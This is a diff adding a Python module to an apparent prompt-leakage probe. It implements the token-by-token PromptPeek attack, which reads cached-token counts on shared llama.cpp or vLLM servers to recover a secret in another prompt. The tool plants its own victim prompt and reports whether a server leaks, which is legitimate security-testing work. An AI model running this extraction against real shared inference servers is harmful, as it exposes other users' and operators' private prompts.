@@ -1,0 +1,623 @@
+"""The token strategy of ``kvlab probe --extract`` (PromptPeek, NDSS 2025; "Leaking Secrets from Prefix Caches",
+arXiv 2411.18191), and the attacker's view of the server's tokenizer that it and the dictionary strategy use.
+
+Where the server counts cached tokens exactly (llama.cpp, ``kvlab serve --report-cached-tokens exact``), the
+attacker guesses the victim's prompt one *token* at a time, in the server's own tokenisation: a character
+guess rarely matches a BPE token (it showed nothing on llama.cpp), a token guess always lines up. Each guess
+is a token-id prompt ``known + [candidate, filler]``; it hits when the server reports one more cached token
+than ``known``, because the victim's prompt put exactly that token there. The candidates are the vocabulary
+entries whose text continues the known prefix with characters of the secret's alphabet (and no longer than
+the secret can be); they are tried in the order of the model's next-token log-probabilities where the server
+gives them (``logprobs`` on ``known``), then longest text first (BPE merges greedily), then by id.
+
+Known part: the prefix's tokens minus those a continuation can re-merge (the tail of ``tokenize(prefix)``
+that ``tokenize(prefix + c)`` changes for some alphabet character ``c``): the first guessed tokens spell the
+rest of the prefix and the start of the secret, as the victim's tokenisation does.
+
+The attacker's own guesses cannot pose as the victim's: a guess ``known + [c, filler]`` shares more than
+``known`` with an earlier one only if that one ran through ``known + [c]``, which every earlier step's
+prompt (shorter, then the filler, which no candidate is) and this step's others (another ``c``) never do.
+One exception the strategy checks before trusting log-probabilities: a server that caches the token its
+``logprobs`` request generated would answer the top candidate's guess from the attacker's own request; two
+requests show whether this one does, and the order falls back to the fixed one if so.
+
+Tokenizer, in order: the server's ``/tokenize`` and ``/detokenize`` (llama.cpp, vLLM, kvlab); a local copy
+(``--tokenizer`` or the served model's name: a kvlab preset, a GGUF file or a Hugging Face directory, read
+without its weights), which also gives the vocabulary without one ``/detokenize`` per token. Where both
+exist they must agree on a test text, or the local copy is dropped.
+"""
+
+from __future__ import annotations
+
+import string
+from collections.abc import Sequence
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import TYPE_CHECKING, Any, Protocol
+
+from kvlab.probe.client import HTTPStatusError, ProbeClient, ProbeError
+from kvlab.probe.extract import (
+    CALIBRATION_LENGTHS,
+    CALIBRATION_START,
+    COUNT_CHANNELS,
+    FILLERS,
+    MAX_SECRET_CHARS,
+    Reply,
+    Step,
+    decide,
+    infer_granularity,
+    tokens,
+)
+
+if TYPE_CHECKING:
+    from kvlab.probe.extract import _Attack
+
+MAX_VOCAB = 1 << 18  # ids the server's /detokenize is asked about at most (the largest vocabularies: 256k)
+TEST_TEXT = "Probe: tokenizer check, 1234 abcd ABCD é."  # local and server tokenizers must agree on it
+
+
+class TextTokenizer(Protocol):
+    def encode(self, text: str) -> list[int] | None: ...
+
+    def decode(self, ids: Sequence[int]) -> str | None: ...
+
+
+class ServerTokenizer:
+    """The server's ``/tokenize`` (the body shape ``find_tokenizer`` found) and ``/detokenize``."""
+
+    def __init__(self, client: ProbeClient) -> None:
+        self.client = client
+        self.requests = 0
+
+    def encode(self, text: str) -> list[int] | None:
+        self.requests += 1
+        try:
+            ids = self.client.tokenize(text)
+        except ProbeError:
+            return None
+        return None if ids is None else list(ids)
+
+    def encode_with_specials(self, text: str) -> list[int] | None:
+        """``text`` tokenised as a text prompt is (llama.cpp's ``add_special``, vLLM's default), or None."""
+        body = self.client.tokenize_body or {}
+        shape = {"content": text, "add_special": True} if "content" in body else {"prompt": text}
+        self.requests += 1
+        try:
+            data, _ = self.client.post("/tokenize", shape)
+        except ProbeError:
+            return None
+        ids = data.get("tokens")
+        return [int(i) for i in ids] if isinstance(ids, list) and all(isinstance(i, int) for i in ids) else None
+
+    def decode(self, ids: Sequence[int]) -> str | None:
+        """The text of ``ids`` (vLLM and kvlab answer ``prompt``, llama.cpp ``content``); None: refused."""
+        self.requests += 1
+        try:
+            data, _ = self.client.post("/detokenize", {"tokens": list(ids)})
+        except ProbeError:
+            return None
+        text = data.get("prompt", data.get("content"))
+        return text if isinstance(text, str) else None
+
+    def vocab_size(self, cap: int = MAX_VOCAB) -> int:
+        """The first id ``/detokenize`` refuses (doubling, then bisecting), at most ``cap``."""
+        lo, hi = 0, 1  # lo: known valid (id 0 is in any vocabulary); hi: first id not yet known valid
+        while hi < cap and self.decode([hi]) is not None:
+            lo, hi = hi, min(2 * hi, cap)
+        if hi >= cap and self.decode([cap - 1]) is not None:
+            return cap
+        while hi - lo > 1:
+            mid = (lo + hi) // 2
+            lo, hi = (mid, hi) if self.decode([mid]) is not None else (lo, mid)
+        return hi
+
+
+class LocalTokenizer:
+    """A local copy of the server's tokenizer (kvlab's ``Tokenizer``, or transformers')."""
+
+    def __init__(self, tok: Any, name: str) -> None:
+        self.tok, self.name = tok, name
+        self.vocab_size = int(getattr(tok, "vocab_size", 0) or len(tok))
+
+    def encode(self, text: str) -> list[int] | None:
+        return [int(i) for i in self.tok.encode(text)]
+
+    def decode(self, ids: Sequence[int]) -> str | None:
+        return str(self.tok.decode(list(ids)))
+
+
+def load_local_tokenizer(name: str) -> LocalTokenizer:
+    """The tokenizer of a kvlab model name (mini presets, smollm2), a ``.gguf`` file or a Hugging Face
+    directory, read without the weights; else transformers' ``AutoTokenizer`` of a local path. Raises
+    ``ValueError`` saying why not."""
+    from kvlab.model.mini import MINI_VARIANTS
+    from kvlab.tokenizer import ByteTokenizer
+
+    if name in MINI_VARIANTS:
+        return LocalTokenizer(ByteTokenizer(), name)
+    path: Path | None = None
+    if name == "smollm2":
+        from kvlab.model.gguf import smollm2_gguf_path
+        from kvlab.model.weights import ModelLoadError
+
+        try:
+            path = smollm2_gguf_path()
+        except ModelLoadError as exc:
+            raise ValueError(str(exc)) from None
+    else:
+        path = Path(name).expanduser()
+    if not path.exists():
+        raise ValueError(f"no tokenizer for {name!r}: not a kvlab model name and no such file or directory")
+    try:
+        if path.is_file() and path.suffix == ".gguf":
+            from kvlab.model.gguf import gguf_model_config, gguf_tokenizer, read_gguf
+            from kvlab.model.gguf.reader import mapped
+
+            with mapped(path) as buf:
+                parsed = read_gguf(path, buf)
+                return LocalTokenizer(gguf_tokenizer(parsed, gguf_model_config(parsed).vocab_size), name)
+        if (path / "config.json").is_file() and (path / "tokenizer.json").is_file():
+            import json
+
+            from kvlab.model.hf_loader import hf_tokenizer
+
+            hf = json.loads((path / "config.json").read_text(encoding="utf-8"))
+            return LocalTokenizer(hf_tokenizer(path, hf, int(hf["vocab_size"])), name)
+        from transformers import AutoTokenizer  # type: ignore[import-not-found,unused-ignore]
+
+        return LocalTokenizer(AutoTokenizer.from_pretrained(str(path), local_files_only=True), name)
+    except Exception as exc:  # any loader's failure: the attack carries on with the server's tokenizer
+        raise ValueError(f"cannot load a tokenizer from {path}: {type(exc).__name__}: {exc}") from None
+
+
+@dataclass
+class TokenizerAccess:
+    """The attacker's view of the server's tokenizer: ``encode`` by the server where it offers /tokenize
+    (authoritative), else by the local copy; the vocabulary (id -> text) from the local copy, else the
+    server's /detokenize id by id. ``notes``: what was chosen and dropped, for the report."""
+
+    server: ServerTokenizer | None = None
+    local: LocalTokenizer | None = None
+    notes: list[str] = field(default_factory=list)
+    # What the server puts before a text prompt's tokens (llama.cpp's and vLLM's BOS) where /tokenize leaves it
+    # out: every encoding starts with it, so token-id prompts line up with the victim's text prompt.
+    specials: list[int] = field(default_factory=list)
+    specials_checked: bool = False
+    line_up: tuple[int, Reply] | None = None  # (tokens of a text prompt, the reply to its token-id copy)
+    _vocab: dict[int, str] | None = None
+    _encoded: dict[str, list[int] | None] = field(default_factory=dict)
+
+    def __post_init__(self) -> None:
+        if self.server is not None and self.local is not None:
+            theirs, ours = self.server.encode(TEST_TEXT), self.local.encode(TEST_TEXT) or []
+            # One side may add a BOS the other leaves out: the vocabulary is what must agree.
+            if theirs is not None and theirs not in (ours, ours[1:]) and theirs[1:] != ours:
+                self.notes.append(
+                    f"the local tokenizer {self.local.name!r} disagrees with the server's /tokenize "
+                    f"({ours} vs {theirs} for {TEST_TEXT!r}): not used"
+                )
+                self.local = None
+
+    @property
+    def available(self) -> bool:
+        return self.server is not None or self.local is not None
+
+    @property
+    def requests(self) -> int:
+        return 0 if self.server is None else self.server.requests
+
+    @property
+    def source(self) -> str:
+        parts = []
+        if self.server is not None:
+            parts.append("the server's /tokenize")
+        if self.local is not None:
+            parts.append(f"a local copy ({self.local.name})")
+        return " and ".join(parts)
+
+    def encode(self, text: str) -> list[int] | None:
+        """``text``'s tokens as the server sees a text prompt (``specials`` first)."""
+        if text not in self._encoded:
+            enc: TextTokenizer | None = self.server if self.server is not None else self.local
+            self._encoded[text] = None if enc is None else enc.encode(text)
+        ids = self._encoded[text]
+        return None if ids is None else [*self.specials, *ids]
+
+    def count(self, text: str) -> int | None:
+        ids = self.encode(text)
+        return None if ids is None else len(ids)
+
+    def vocabulary(self) -> dict[int, str] | None:
+        """Every id whose text is whole characters (no special tokens, no half a UTF-8 sequence). A token's
+        text is read after an anchor token (``decode([a, t])`` minus ``decode([a])``), so a SentencePiece
+        piece keeps the space a lone decode would strip."""
+        if self._vocab is not None:
+            return self._vocab
+        dec: TextTokenizer | None
+        if self.local is not None:
+            dec, size = self.local, self.local.vocab_size
+        elif self.server is not None:
+            dec, size = self.server, self.server.vocab_size()
+        else:
+            return None
+        anchor_ids = (self.encode("a") or [])[len(self.specials) :]
+        if not anchor_ids:
+            return None
+        anchor = anchor_ids[-1]
+        head = dec.decode([anchor]) or ""
+        vocab: dict[int, str] = {}
+        for tid in range(size):
+            both = dec.decode([anchor, tid])
+            if both is None or not both.startswith(head):
+                continue
+            text = both[len(head) :]
+            if text and "\ufffd" not in text:
+                vocab[tid] = text
+        self._vocab = vocab
+        return vocab
+
+
+def byte_level(tokenizer: TokenizerAccess | None, alphabet: str, extra: str = "") -> bool:
+    """Is the tokenizer one token a byte (so character lengths are token counts), judged on prose like the
+    prompts', the alphabet and ``extra``? Unknown (no tokenizer): assumed, as the character strategy does."""
+    if tokenizer is None or not tokenizer.available:
+        return True
+    text = f"Internal note for the assistant. The access code is: {alphabet}{alphabet[::-1]} {extra}"
+    n = tokenizer.count(text)
+    return n is None or n == tokens(text)
+
+
+def filler_id(tokenizer: TokenizerAccess, alphabet: str, vocab: dict[int, str]) -> tuple[str, int] | None:
+    """The first filler character outside the alphabet that is one token of its own."""
+    for f in FILLERS:
+        ids = tokenizer.encode(f)
+        if f not in alphabet and ids is not None and len(ids) >= 1 and vocab.get(ids[-1]) == f:
+            return f, ids[-1]
+    return None
+
+
+# ------------------------------------------------------------------ calibration in tokens
+def detect_specials(run: _Attack, tokenizer: TokenizerAccess) -> None:
+    """Does the server add tokens to a text prompt that the tokenizer's encoding leaves out (a BOS)? One text
+    request: its ``usage.prompt_tokens`` against the encoding; the extra ones from the server's /tokenize with
+    special tokens on, else the local copy's BOS. Sets ``tokenizer.specials``. Then the same prompt as token
+    ids, right after it: its hit (read by ``ids_line_up`` once the channel is known) shows whether the
+    attacker's token-id prompts line up with text prompts at all, which a "no leak" needs."""
+    if tokenizer.specials_checked:
+        return
+    tokenizer.specials_checked = True
+    words = " ".join(run.rng.choice(("note", "code", "keep", "the", "private", "and")) for _ in range(60))
+    text = f"<{run.run_id}-specials> {words}"
+    ids = tokenizer.encode(text)
+    try:
+        got = run.attack(text).prompt_tokens
+    except HTTPStatusError:
+        return
+    extra = 0 if ids is None or got is None else got - len(ids)
+    if ids is not None and extra > 0:
+        full = tokenizer.server.encode_with_specials(text) if tokenizer.server is not None else None
+        bos = getattr(tokenizer.local.tok, "bos_token_id", None) if tokenizer.local is not None else None
+        if full is not None and len(full) == got and full[extra:] == ids:
+            tokenizer.specials = full[:extra]
+        elif extra == 1 and isinstance(bos, int):
+            tokenizer.specials = [bos]
+        else:
+            run.report.notes.append(
+                f"the server adds {extra} token(s) to a text prompt that its /tokenize leaves out, and the probe "
+                "could not tell which: token-id prompts may not line up with the victim's"
+            )
+        if tokenizer.specials:
+            run.report.notes.append(
+                f"the server starts every text prompt with token(s) {tokenizer.specials}: so do the guesses"
+            )
+    ids = tokenizer.encode(text)
+    fill = tokenizer.encode(next(f for f in FILLERS if f not in text))
+    if ids and fill:
+        try:
+            reply = run.attack([*ids, fill[-1]], resend=False)
+        except HTTPStatusError:
+            return
+        tokenizer.line_up = (len(ids), reply)
+
+
+def ids_line_up(run: _Attack, tokenizer: TokenizerAccess | None) -> bool | None:
+    """Did the attacker's token-id copy of its own text prompt find it whole (to the channel's last block)?
+    None: not measured (no tokenizer in use, a prompt shorter than a block)."""
+    if tokenizer is None or tokenizer.line_up is None or run.report.channel not in COUNT_CHANNELS:
+        return None
+    n, reply = tokenizer.line_up
+    g = run.report.granularity or 1
+    got = reply.counter_hits if run.report.channel == "metrics" else reply.cached_tokens
+    if got is None or n // g * g == 0:
+        return None
+    return got >= n // g * g
+
+
+def guard_no_leak(run: _Attack, tokenizer: TokenizerAccess | None) -> None:
+    """A "no leak" of a strategy that sends token ids stands only if ids were shown to line up with text."""
+    report = run.report
+    if report.verdict != "no leak" or ids_line_up(run, tokenizer) is not False:
+        return
+    report.verdict = "inconclusive"
+    report.reason = (
+        "no guess hit, but the attacker's token-id copy of its own text prompt did not find it either: token-id "
+        "prompts do not line up with the server's text prompts here, so that proves nothing (not a proof of safety)"
+    )
+
+
+def calibrate_tokens(run: _Attack, tokenizer: TokenizerAccess) -> bool:
+    """The count channel in tokens, with token-id prompts (exact where text prompts re-merge at the cut):
+    a long fresh prompt, then its prefixes of ``CALIBRATION_LENGTHS`` tokens. Sets the report's channel,
+    granularity and unit; False (with a note) where it cannot (no tokenizer, ids refused, no block size)."""
+    report = run.report
+    report.calibration["tokens"] = "failed"  # until it succeeds
+    counter = run.counter = run.hit_counter  # metered again: the counter may be the channel in tokens
+    detect_specials(run, tokenizer)
+    body = "".join(run.rng.choice(string.ascii_letters + string.digits) for _ in range(6 * max(CALIBRATION_LENGTHS)))
+    ids = tokenizer.encode(CALIBRATION_START + run.run_id + "-t" + body)
+    ends = [tokenizer.encode(c) for c in "!?"]
+    if ids is None or any(not e for e in ends) or len(ids) <= max(CALIBRATION_LENGTHS):
+        report.notes.append("the tokenizer could not lay out the token calibration: no calibration in tokens")
+        return False
+    bang, question = (e[-1] for e in ends if e)
+    reported: list[int | None] = []
+    counted: list[int | None] = []
+    try:
+        for n in CALIBRATION_LENGTHS:
+            run.attack([*ids, bang])
+            reply = run.attack([*ids[:n], question])
+            reported.append(reply.cached_tokens)
+            counted.append(reply.counter_hits)
+    except HTTPStatusError as exc:
+        run.counter = None
+        report.notes.append(f"the server refuses token-id prompts ({exc.status}): no calibration in tokens")
+        return False
+    report.calibration["token_lengths"] = list(CALIBRATION_LENGTHS)
+    report.calibration["token_reported"] = reported
+    g = infer_granularity(CALIBRATION_LENGTHS, reported)
+    gc = infer_granularity(CALIBRATION_LENGTHS, counted) if counter is not None else None
+    if counter is not None:
+        report.calibration["token_counted"] = counted
+    if gc is not None and (g is None or gc < g):
+        report.channel, report.granularity = "metrics", gc
+    elif g is not None:
+        report.channel, report.granularity = "cached_tokens", g
+        run.counter = None
+    else:
+        run.counter = None
+        report.notes.append(f"token-id calibration: the cached counts {reported} follow no block size in tokens")
+        return False
+    report.unit, report.calibration["tokens"] = "tokens", "done"
+    # The character calibration's fallback no longer holds: say what it found, not what it fell back to.
+    report.notes = [n.split(": falling back to TTFT")[0] for n in report.notes]
+    unit = "exactly" if report.granularity == 1 else f"in blocks of {report.granularity} tokens"
+    report.notes.append(f"calibrated with token-id prompts: {report.channel} counts the hits {unit}")
+    return True
+
+
+def channel_in_tokens(run: _Attack, tokenizer: TokenizerAccess | None) -> bool:
+    """Make sure the report's channel counts tokens: the character calibration does where the tokenizer is
+    byte-level (or unknown); otherwise calibrate again with token ids. False: no count channel in tokens."""
+    report = run.report
+    if report.unit == "tokens":  # calibrated in tokens already
+        return report.channel in COUNT_CHANNELS
+    if report.calibration.get("tokens") == "failed":
+        return False
+    if byte_level(tokenizer, run.cfg.alphabet):
+        return report.channel in COUNT_CHANNELS
+    return tokenizer is not None and calibrate_tokens(run, tokenizer)
+
+
+# ------------------------------------------------------------------ candidates
+def consistent(prefix: str, alphabet: str, max_secret: int, covered: int, text: str) -> bool:
+    """Does ``text``, after the first ``covered`` characters of ``prefix + secret``, fit a secret of at most
+    ``max_secret`` characters of ``alphabet``?"""
+    need = prefix[covered:]
+    if len(text) <= len(need):
+        return need.startswith(text)
+    if not text.startswith(need):
+        return False
+    tail = text[len(need) :]
+    return covered + len(text) - len(prefix) <= max_secret and all(c in alphabet for c in tail)
+
+
+def ordered(cands: list[int], vocab: dict[int, str], ranked: Sequence[int]) -> list[int]:
+    """``ranked`` (the server's likeliest, those among ``cands``) first, then longest text first, then id."""
+    pool = set(cands)
+    head = [t for t in dict.fromkeys(ranked) if t in pool]
+    seen = set(head)
+    rest = sorted((t for t in cands if t not in seen), key=lambda t: (-len(vocab[t]), t))
+    return head + rest
+
+
+def stable_known(tokenizer: TokenizerAccess, prefix: str, alphabet: str) -> list[int] | None:
+    """The prefix's tokens that no continuation by one alphabet character re-merges."""
+    known = tokenizer.encode(prefix)
+    if known is None:
+        return None
+    for c in alphabet:
+        other = tokenizer.encode(prefix + c)
+        if other is None:
+            return None
+        n = 0
+        while n < min(len(known), len(other)) and known[n] == other[n]:
+            n += 1
+        known = known[:n]
+    return known
+
+
+def ranked_ids(run: _Attack, known: list[int], vocab: dict[int, str]) -> list[int]:
+    """The server's likeliest next tokens after ``known``, as ids (texts mapped through the vocabulary)."""
+    got = run.rank(known)
+    if got is None:
+        return []
+    by_text: dict[str, list[int]] = {}
+    for t, text in vocab.items():
+        by_text.setdefault(text, []).append(t)
+    out: list[int] = []
+    for tid, text in got.top:
+        out.extend([tid] if tid is not None else by_text.get(text, []))
+    return out
+
+
+def generated_token_cached(run: _Attack, tokenizer: TokenizerAccess, vocab: dict[int, str], fill: int) -> bool:
+    """Does the server cache the token a 1-token ``logprobs`` request generated? Then a guess of that token
+    would hit the attacker's own request. A fresh prompt, its top token, and that prompt plus it."""
+    words = " ".join(run.rng.choice(["note", "code", "keep", "the", "private"]) for _ in range(8))
+    prompt = tokenizer.encode(f"<{run.run_id}-logprobs> {words}")
+    got = run.rank(prompt) if prompt else None
+    if not prompt or got is None:
+        return False
+    top = got.sampled
+    if top is None and got.top:
+        tid, text = got.top[0]
+        top = tid if tid is not None else next((i for i, t in vocab.items() if t == text), None)
+    if top is None:
+        return False
+    return run.hits(run.attack([*prompt, top, fill])) > len(prompt)
+
+
+# ------------------------------------------------------------------ the strategy
+@dataclass
+class _TokenState:
+    known: list[int]  # the ids sent before each guess: stable prefix tokens, then recovered ones
+    covered: int  # characters of prefix + secret that ``known`` spells
+    victim: list[int]  # the victim's prompt's tokens (the probe's oracle)
+    correct: bool = True  # every recovered token so far is the victim's
+
+
+def run_token(run: _Attack, tokenizer: TokenizerAccess | None) -> None:
+    """Recover the secret token by token; sets the report's steps, recovery and verdict."""
+    report, cfg = run.report, run.cfg
+    report.strategy = "token"
+    if not channel_in_tokens(run, tokenizer) or tokenizer is None:
+        _give_up(run, "no count channel in tokens (no tokenizer, or the server refuses token-id prompts)")
+        return
+    detect_specials(run, tokenizer)
+    if report.granularity != 1:
+        _give_up(
+            run,
+            f"{report.channel} counts hits in blocks of {report.granularity} tokens: one token never shows "
+            "(the dictionary strategy guesses whole blocks)",
+            "unreachable",
+        )
+        return
+    vocab = tokenizer.vocabulary()
+    report.tokenizer = tokenizer.source
+    fill = filler_id(tokenizer, cfg.alphabet, vocab) if vocab else None
+    if not vocab or fill is None:
+        _give_up(run, "the tokenizer gave no vocabulary, or no filler character of one token of its own")
+        return
+    base = f"[{run.run_id}] Internal note for the assistant. The access code is: "
+    prefix = cfg.prefix if cfg.prefix is not None else base
+    report.prefix_chars = len(prefix)
+    run.victim_prompts = [prefix + report.secret]
+    victim = tokenizer.encode(prefix + report.secret)
+    known = stable_known(tokenizer, prefix, cfg.alphabet)
+    if victim is None or known is None:
+        _give_up(run, "the tokenizer could not encode the prompts")
+        return
+    covered = sum(len(vocab.get(t, "")) for t in known)
+    if prefix[:covered] != "".join(vocab.get(t, "") for t in known):
+        _give_up(run, "the vocabulary's token texts do not spell the known prefix: positions cannot be followed")
+        return
+    run.resend_victims()
+    try:
+        shown = run.hits(run.attack([*known, fill[1]]))
+    except HTTPStatusError as exc:
+        _give_up(run, f"the server refuses token-id prompts ({exc.status})")
+        return
+    report.prefix_hit_tokens = shown
+    report.prefix_visible = shown >= len(known) if known else None
+    use_rank = run.ranker is not None
+    if use_rank and generated_token_cached(run, tokenizer, vocab, fill[1]):
+        use_rank = False
+        report.notes.append(
+            "the server caches the token a logprobs request generates: guesses follow the fixed order instead"
+        )
+    bound = cfg.secret_length[1] if cfg.secret is None else MAX_SECRET_CHARS
+    state = _TokenState(list(known), covered, victim)
+    spent = 0
+    while state.covered - len(prefix) < bound:
+        before = report.attacker_requests
+        step = _token_step(run, state, vocab, prefix, bound, fill[1], use_rank)
+        report.steps.append(step)
+        run.on_step()
+        if step.outcome != "recovered":
+            break
+        if state.correct:
+            spent = report.attacker_requests - before + spent
+    secret_chars = max(0, min(len(report.secret), state.covered - len(prefix)))
+    report.recovered = _recovered_text(report.steps)
+    report.chance = float(len(cfg.alphabet)) ** -report.correct_chars if report.correct_chars else 1.0
+    if report.tokens_recovered:
+        report.requests_per_token = round(spent / report.tokens_recovered, 1)
+    report.tokenizer_requests = tokenizer.requests
+    report.notes.append(
+        f"{report.tokens_recovered} of the victim's tokens recovered ({secret_chars} characters past the prefix)"
+        + (f", {report.requests_per_token} attacker requests per token" if report.requests_per_token else "")
+    )
+    report.verdict, report.reason = decide(report, cfg.alpha)
+    guard_no_leak(run, tokenizer)
+
+
+def _recovered_text(steps: Sequence[Step]) -> str:
+    return "".join(s.guess or "" for s in steps if s.outcome == "recovered" and s.width)
+
+
+def _token_step(
+    run: _Attack, state: _TokenState, vocab: dict[int, str], prefix: str, bound: int, fill: int, use_rank: bool
+) -> Step:
+    cfg, report = run.cfg, run.report
+    position = max(0, state.covered - len(prefix))
+    cands = [t for t, text in vocab.items() if consistent(prefix, cfg.alphabet, bound, state.covered, text)]
+    step = Step(position, 1, len(cands), 0, "no hit")  # width: at least the one character a token adds
+    if not cands:
+        step.detail = "no vocabulary entry continues the known part with the alphabet"
+        return step
+    run.resend_victims()
+    order = ordered(cands, vocab, ranked_ids(run, state.known, vocab) if use_rank else [])
+    for t in order[: cfg.max_candidates]:
+        step.tried += 1
+        if run.hits(run.attack([*state.known, t, fill])) >= len(state.known) + 1:
+            text = vocab[t]
+            past = max(0, state.covered + len(text) - len(prefix))  # secret characters up to this token's end
+            step.outcome, step.width = "recovered", past - position
+            step.guess = text[len(text) - step.width :] if step.width else ""
+            n = len(state.known)
+            step.correct = state.victim[n : n + 1] == [t]
+            step.detail = f"token {t} {text!r}"
+            state.known.append(t)
+            state.covered += len(text)
+            state.correct = state.correct and step.correct
+            if state.correct:
+                report.tokens_recovered += 1
+                report.correct_chars = min(len(report.secret), past)
+                report.requests_to_recover = report.attacker_requests + report.victim_requests
+            return step
+    if len(order) > cfg.max_candidates:
+        step.outcome = "unreachable"
+        step.detail = (
+            f"{len(order)} vocabulary entries fit here; the first {cfg.max_candidates} (the budget) did not hit"
+        )
+    else:
+        step.detail = f"none of the {len(order)} candidate tokens extended the cached prefix (end of the secret)"
+    return step
+
+
+def _give_up(run: _Attack, why: str, outcome: str = "inconclusive") -> None:
+    report = run.report
+    report.steps.append(Step(0, 0, 0, 0, outcome, detail=why))
+    report.verdict, report.reason = "inconclusive", f"{report.strategy} strategy: {why} (not a proof of safety)"
+
+
+__all__ = [
+    "LocalTokenizer",
+    "ServerTokenizer",
+    "TokenizerAccess",
+    "calibrate_tokens",
+    "channel_in_tokens",
+    "consistent",
+    "load_local_tokenizer",
+    "run_token",
+]
